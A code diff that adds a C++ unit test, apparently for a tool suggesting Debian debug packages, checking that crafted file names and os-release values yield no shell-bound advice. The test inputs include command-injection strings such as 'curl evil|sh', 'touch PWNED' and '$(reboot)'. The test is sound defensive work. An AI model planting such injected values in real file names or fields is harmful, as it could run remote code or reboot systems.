@@ -64,6 +64,16 @@ TEST_F(DebugPackageOf, ArchitecturesAndMergedFoldersDoNotMatter) {
   EXPECT_EQ(of("/usr/sbin/thing")->owner, "thing");
 }
 
+// It will be typed into a shell, and who made the root chose the names.
+TEST_F(DebugPackageOf, NoAdviceIsACommandOfSomebodyElses) {
+  is_debian();
+  write("var/lib/dpkg/info/x; curl evil|sh #.list", "/usr/sbin/thing\n");
+  EXPECT_EQ(of("/usr/sbin/thing")->owner, "");
+  EXPECT_FALSE(of("/a;touch PWNED;b/mysqld"));
+  write("etc/os-release", "ID=debian\nVERSION_CODENAME=\"$(reboot)\"\n");
+  EXPECT_FALSE(of("/usr/sbin/thing"));
+}
+
 TEST_F(DebugPackageOf, WhatNobodyPackagedHasNoPackage) {
   is_debian();
   write("var/lib/dpkg/info/thing.list", "/usr/sbin/thing\n");
